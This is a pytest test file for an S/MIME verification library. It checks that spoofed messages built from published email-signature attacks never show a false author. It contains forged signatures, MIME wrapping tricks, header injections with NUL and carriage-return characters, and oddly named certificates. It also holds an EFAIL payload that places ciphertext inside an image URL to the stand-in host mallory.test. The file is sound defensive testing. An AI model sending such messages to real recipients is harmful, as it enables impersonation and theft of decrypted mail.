"""Attacks on what people are told about who wrote to them, each under its name; the table of verdicts has the plain ones.

Sources: Mueller et al., "Johnny, you are fired!" (USENIX Security 2019); Poddebniak et al., "Efail" (USENIX Security 2018);
Mueller et al., "Re: What's Up Johnny?" (ACNS 2019); Schwenk et al., "Mitigation of Attacks on Email End-to-End Encryption"
(CCS 2020); RFC 9787.

The attacker has every mail that Alice ever signed, a certificate of his own under the same root, and may write whole messages.
"""

import base64
from datetime import timedelta

import pytest
from cryptography import x509
from cryptography.hazmat import asn1
from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.serialization import Encoding
from cryptography.x509.oid import NameOID
from support.certificates import NOW
from support.forged import Forged, oid, typical
from support.mail_people import MailPerson, MailRoot
from support.smime_layers import (
    FROM_ALICE,
    TEXT,
    encrypted,
    mixed,
    multipart_signed,
    opaque,
    signature_of,
    signed_clear,
    signed_opaque,
    with_header,
)

from sealwright.asn1.writer import tlv
from sealwright.cms import schema, signed
from sealwright.cms.signers import PrivateKeySigner
from sealwright.smime.verdict import judge_message

ROOT, OTHER_ROOT = MailRoot(), MailRoot("Other")
ALICE, MALLORY, BOB = (ROOT.person(name) for name in ("alice", "mallory", "bob"))
FAKE = OTHER_ROOT.person("alice")
AUTHOR = "alice@example.test"
EVIL = b"Content-Type: text/plain\r\n\r\nPay 9999 to Mallory.\r\n"
FROM_MALLORY = FROM_ALICE.replace(b"alice@example.test", b"mallory@example.test")
TRUST = ROOT.trust()
BY_ALICE = signed_clear(TEXT, ALICE)
OPAQUE_BY_ALICE = signed_opaque(TEXT, ALICE)
PROTECTED_BY_ALICE = signed_clear(with_header(TEXT, FROM_ALICE, protection="clear"), ALICE)
SIGNATURE_PART = (
    b"Content-Type: application/pkcs7-signature\r\nContent-Transfer-Encoding: base64\r\n\r\n"
    + base64.encodebytes(signature_of(TEXT, ALICE, detached=True))
)
ALICE_SIGNER = PrivateKeySigner(ALICE.certificate, ALICE.key)


def judged(message: bytes, trust=TRUST):
    return judge_message(message, BOB.find_keys, trust)


def html(text: bytes) -> bytes:
    return b"Content-Type: text/html; charset=utf-8\r\n\r\n" + text


def eml(entity: bytes) -> bytes:
    return b"Content-Type: message/rfc822\r\n\r\n" + FROM_ALICE + entity


NO_AUTHOR = {
    # --- CMS (Johnny, section 5.2: C1, C2)
    "C1 the signature's own content is another than the text beside it": FROM_ALICE
    + multipart_signed(EVIL, signature_of(TEXT, ALICE)),
    "C1 the own content is empty": FROM_ALICE
    + multipart_signed(EVIL, Forged(ALICE_SIGNER, b"", typical(b"")).message()),
    "C2 certificates only, before an unsigned text": FROM_ALICE
    + mixed(opaque(signed.certificates_only([ALICE.certificate]), "certs-only"), EVIL),
    "C2 no signer beside Alice's certificate": FROM_ALICE
    + multipart_signed(EVIL, signed.certificates_only([ALICE.certificate])),
    "C3 a signer that is not Alice brings her certificate": FROM_ALICE
    + opaque(
        Forged(
            PrivateKeySigner(MALLORY.certificate, MALLORY.key),
            EVIL,
            typical(EVIL),
            sid=tlv(0x30, ALICE.certificate.issuer.public_bytes(), asn1.encode_der(ALICE.certificate.serial_number)),
            certificates=[ALICE.certificate.public_bytes(Encoding.DER), MALLORY.certificate.public_bytes(Encoding.DER)],
        ).message(),
        "signed-data",
    ),
    "a certificate of Alice by a stranger's root, which comes along": FROM_ALICE
    + opaque(signature_of(EVIL, FAKE, chain=[OTHER_ROOT.certificate]), "signed-data"),
    "the signed content is no mail but says so": FROM_ALICE
    + opaque(Forged(ALICE_SIGNER, TEXT, typical(TEXT), content_type="1.2.840.113549.1.9.16.1.4").message(), "signed-data"),
    # --- MIME (Johnny, section 5.3: M1 to M4; partial signing)
    "M1 an unsigned text before the signed one": FROM_ALICE + mixed(EVIL, BY_ALICE),
    "M1 an unsigned text after the signed one": FROM_ALICE + mixed(BY_ALICE, EVIL),
    "M2 the signed part hidden by related": FROM_ALICE + mixed(EVIL, BY_ALICE, kind="related"),
    "M2 related inside related, the root is unsigned": FROM_ALICE
    + mixed(mixed(EVIL, BY_ALICE, kind="related", boundary="in"), kind="related"),
    "M2 the signed part is an alternative": FROM_ALICE + mixed(EVIL, BY_ALICE, kind="alternative"),
    "M3 the signed mail as an attachment": FROM_ALICE + mixed(EVIL, eml(BY_ALICE)),
    "M3 the signed mail alone, as an attachment": FROM_ALICE + mixed(eml(BY_ALICE)),
    "M3 the whole message is a forwarded mail": FROM_ALICE + b"Content-Type: message/rfc822\r\n\r\n" + FROM_ALICE + BY_ALICE,
    "M3 forwarded=no without protection around it": FROM_ALICE
    + b"Content-Type: message/rfc822; forwarded=no\r\n\r\n" + FROM_ALICE + BY_ALICE,
    "M4 an image of a signed mail: cid to a part": FROM_ALICE
    + mixed(html(b"<img src='cid:x'>"), b"Content-ID: <x>\r\n" + BY_ALICE, kind="related"),
    "the HTML part does not close its tag, the signed one follows": FROM_ALICE
    + mixed(html(b"Pay 9999 to Mallory.<div style='display:none'><plaintext>"), BY_ALICE),
    "the signature covers the first part only": FROM_ALICE
    + multipart_signed(TEXT + b"\r\n--sig\r\n" + EVIL, signature_of(TEXT, ALICE, detached=True)),
    "three parts": FROM_ALICE
    + multipart_signed(TEXT, signature_of(TEXT, ALICE, detached=True), extra=b"--sig\r\n" + EVIL + b"\r\n"),
    "the signature comes first": FROM_ALICE
    + mixed(SIGNATURE_PART, EVIL, kind='signed; protocol="application/pkcs7-signature"'),
    "the signature is of another text": FROM_ALICE
    + mixed(EVIL, SIGNATURE_PART, kind='signed; protocol="application/pkcs7-signature"'),
    "an unsigned text around an opaque part": FROM_ALICE + mixed(EVIL, OPAQUE_BY_ALICE),
    # --- identities (Johnny, section 5.4: I1 to I3)
    "I1 the signer is the Sender": FROM_ALICE + b"Sender: mallory@example.test\r\n" + signed_clear(EVIL, MALLORY),
    "I1 the signer is a second From": FROM_ALICE + b"From: mallory@example.test\r\n" + signed_clear(EVIL, MALLORY),
    "I1 both in one From": b"From: alice@example.test, mallory@example.test\r\n" + signed_clear(EVIL, MALLORY),
    "I1 Mallory first": b"From: mallory@example.test, alice@example.test\r\n" + signed_clear(EVIL, MALLORY),
    "I3 a comment holds the other address": b"From: alice@example.test (mallory@example.test)\r\n" + signed_clear(EVIL, MALLORY),
    "a route": b"From: <@mallory@example.test:alice@example.test>\r\n" + signed_clear(EVIL, MALLORY),
    "a group": b"From: alice@example.test: mallory@example.test;\r\n" + signed_clear(EVIL, MALLORY),
    "two angle addresses": b"From: <alice@example.test> <mallory@example.test>\r\n" + signed_clear(EVIL, MALLORY),
    "an address after the angle address": b"From: <mallory@example.test> alice@example.test\r\n" + signed_clear(EVIL, MALLORY),
    "a NUL ends the address for some": b"From: alice@example.test\0mallory@example.test\r\n" + signed_clear(EVIL, MALLORY),
    "a NUL in the name": b"From: alice@example.test\0 <mallory@example.test>\r\n" + signed_clear(EVIL, MALLORY),
    "a carriage return begins a line for some": b"From: mallory@example.test\rFrom: alice@example.test\r\n"
    + signed_clear(EVIL, MALLORY),
    "an encoded word is the address": b"From: =?utf-8?q?alice=40example=2Etest?=\r\n" + signed_clear(EVIL, MALLORY),
    "an encoded line end": b"From: =?utf-8?q?alice=40example.test=0D=0A?= <mallory@example.test>\r\n" + signed_clear(EVIL, ALICE),
    "a quoted local part": b'From: "alice@example.test"@example.test\r\n' + signed_clear(EVIL, ALICE),
    "a space before the colon hides a second From": FROM_ALICE + b"From : mallory@example.test\r\n" + BY_ALICE,
    "capitals hide a second From": FROM_ALICE + b"fROM: mallory@example.test\r\n" + BY_ALICE,
    "a folded name": b"From:\r\n alice@example.test\r\nFrom:\r\n mallory@example.test\r\n" + BY_ALICE,
    "no From at all": b"To: bob@example.test\r\nSubject: Money\r\n" + BY_ALICE,
    # --- content types
    "two content types, the first unsigned": FROM_ALICE + b"Content-Type: text/plain\r\n" + BY_ALICE,
    "two content types, the second unsigned": FROM_ALICE
    + BY_ALICE.replace(b"\r\n\r\n", b"\r\nContent-Type: text/plain\r\n\r\n", 1),
    "a broken header line before the content type": FROM_ALICE + b"broken line\r\n" + BY_ALICE,
    # --- encryption does not say who wrote
    "the author inside an encryption only": FROM_MALLORY + encrypted(with_header(EVIL, FROM_ALICE, protection="cipher"), BOB),
    "Alice's signature around Mallory's ciphertext": FROM_ALICE + signed_opaque(encrypted(EVIL, BOB), ALICE),
    "Alice's signed mail beside an encrypted text": FROM_ALICE + encrypted(mixed(EVIL, BY_ALICE), BOB),
    "EFAIL: ciphertext between halves of a tag": FROM_ALICE
    + mixed(html(b"<img src='http://mallory.test/"), encrypted(TEXT, BOB), html(b"'>")),
}  # fmt: skip


@pytest.mark.parametrize("name", NO_AUTHOR)
def test_nobody_is_named_as_the_author(name):
    assert judged(NO_AUTHOR[name]).summary.authentic_author is None


@pytest.mark.parametrize("name", [name for name in NO_AUTHOR if name.startswith("EFAIL")])
def test_no_plaintext_is_put_into_what_others_wrote(name):
    verdict = judged(NO_AUTHOR[name])
    assert "Pay" not in verdict.body_text
    assert all(b"Pay" not in part.content for part in verdict.attachments)


SHOWS_ALICES_WORDS_ONLY = {
    "text before the first boundary": FROM_ALICE + BY_ALICE.replace(b"not a part", b"Pay 9999 to Mallory."),
    "an opaque signature with more base64 behind its end": FROM_ALICE + OPAQUE_BY_ALICE + base64.b64encode(EVIL),
    "another subject": FROM_ALICE.replace(b"Money", b"Do you agree to everything?") + PROTECTED_BY_ALICE,
    "two boundary parameters": FROM_ALICE
    + BY_ALICE.replace(b'boundary="sig"', b'boundary="sig"; boundary="evil"').replace(
        b"not a part", b"--evil\r\n" + EVIL + b"\r\n--evil--", 1
    ),
    "the boundary once more as an extended parameter": FROM_ALICE
    + BY_ALICE.replace(b'boundary="sig"', b"boundary=\"sig\"; boundary*=utf-8''evil").replace(
        b"not a part", b"--evil\r\n" + EVIL + b"\r\n--evil--", 1
    ),
    "Mallory's signature around Alice's": FROM_ALICE + signed_opaque(BY_ALICE, MALLORY),
    "Alice's certificate twice": FROM_ALICE
    + opaque(Forged(ALICE_SIGNER, TEXT, typical(TEXT)).message(), "signed-data"),
}


@pytest.mark.parametrize("name", SHOWS_ALICES_WORDS_ONLY)
def test_where_alice_is_the_author_nothing_else_is_shown(name):
    verdict = judged(SHOWS_ALICES_WORDS_ONLY[name])
    shown = [verdict.body_text or "", *(part.content.decode("latin-1") for part in verdict.attachments)]
    if verdict.summary.authentic_author is not None:
        assert verdict.summary.authentic_author == AUTHOR
        assert not any("Mallory" in text for text in shown)
        assert verdict.headers.subject == "Money"


def certified(subject_email: str | None, *names: x509.GeneralName) -> MailPerson:
    """Certify Mallory's key under odd names; the root is as trusting as a bad CA is."""
    person = ROOT.person("x", addresses=[])
    attributes = [x509.NameAttribute(NameOID.COMMON_NAME, "alice@example.test")]
    if subject_email is not None:
        attributes.append(x509.NameAttribute(NameOID.EMAIL_ADDRESS, subject_email))
    builder = x509.CertificateBuilder(
        ROOT.subject, x509.Name(attributes), person.key.public_key(), x509.random_serial_number()
    )
    builder = builder.not_valid_before(NOW - timedelta(days=1)).not_valid_after(NOW + timedelta(days=9))
    for extension in person.certificate.extensions:
        builder = builder.add_extension(extension.value, extension.critical)
    if names:
        builder = builder.add_extension(x509.SubjectAlternativeName(names), critical=False)
    return MailPerson(person.key, builder.sign(ROOT.key, hashes.SHA256()))


def mailbox(text: str) -> x509.RFC822Name:
    return x509.RFC822Name._init_without_validation(text)


def smtp_utf8(text: str) -> x509.OtherName:
    return x509.OtherName(x509.ObjectIdentifier("1.3.6.1.5.5.7.8.9"), tlv(0x0C, text.encode()))


CERTIFICATES = {
    "the address stands in the common name": certified(None),
    "the subject's address ends in a NUL": certified("alice@example.test\0.mallory.test"),
    "the address as a DNS name": certified(None, x509.DNSName("alice@example.test")),
    "the address as a URI": certified(None, x509.UniformResourceIdentifier("mailto:alice@example.test")),
    "the address in a directory name": certified(
        None, x509.DirectoryName(x509.Name([x509.NameAttribute(NameOID.EMAIL_ADDRESS, "alice@example.test")]))
    ),
    "a NUL after the address": certified(None, mailbox("alice@example.test\0")),
    "a NUL and more after the address": certified(None, mailbox("alice@example.test\0@mallory.test")),
    "a space after the address": certified(None, mailbox("alice@example.test ")),
    "two addresses in one name": certified(None, mailbox("alice@example.test,mallory@example.test")),
    "an angle address as a name": certified(None, mailbox("<alice@example.test>")),
    "only the host": certified(None, mailbox("example.test")),
    "a subdomain": certified(None, mailbox("alice@mail.example.test")),
    "an internationalized name with a NUL": certified(None, smtp_utf8("alice@example.test\0")),
}  # fmt: skip


@pytest.mark.parametrize("name", CERTIFICATES)
def test_a_certificate_that_does_not_name_alice_does_not_speak_for_her(name):
    verdict = judged(FROM_ALICE + signed_clear(EVIL, CERTIFICATES[name]))
    assert verdict.summary.authentic_author is None
    assert not verdict.summary.signer_matches_from


def test_an_old_list_that_a_message_brings_does_not_undo_a_revocation():
    """RFC 8550 section 2.1: a message may bring lists; the attacker brings the last one before he was found out."""
    before = ROOT.crl(at=NOW - timedelta(days=2))
    assert before.next_update_utc > NOW
    content_info = Forged(ALICE_SIGNER, TEXT, typical(TEXT), crls=[before.public_bytes(Encoding.DER)]).message()
    message = FROM_ALICE + opaque(content_info, "signed-data")
    assert judged(message).summary.authentic_author == AUTHOR
    verdict = judged(message, ROOT.trust(ALICE.certificate))
    assert verdict.summary.authentic_author is None
    assert verdict.signature.signers[0].revocation == "revoked"


def test_signed_attributes_are_no_text():
    """A signature over Alice's attributes, taken for one over a content without attributes (RFC 5652 section 5.3)."""
    attributes = tlv(0x31, *sorted(typical(TEXT)))
    verdict = judged(FROM_ALICE + opaque(Forged(ALICE_SIGNER, attributes).message(), "signed-data"))
    assert verdict.summary.authentic_author is None
    assert verdict.signature.signers[0].problem == "ambiguous-content"


def test_a_signature_over_a_file_is_not_one_over_a_mail_with_another_type():
    """The type is signed: what Alice signed as a timestamp or a receipt is no mail."""
    content_info = Forged(
        ALICE_SIGNER,
        TEXT,
        [*typical(TEXT)[1:], typical(TEXT)[0].replace(oid(schema.DATA), oid("1.2.840.113549.1.7.5"))],
    ).message()
    assert judged(FROM_ALICE + opaque(content_info, "signed-data")).summary.authentic_author is None


def test_what_is_shown_of_a_text_cannot_be_the_words_of_the_program():
    """UI redressing (Johnny, section 5.5): control characters, directions and escapes do not reach a header that is shown."""
    verdict = judged(FROM_MALLORY.replace(b"Money", b"\x1b[2Ja\xe2\x80\xaeb =?utf-8?q?=1B[31m?=") + TEXT)
    assert verdict.headers.subject.isprintable()
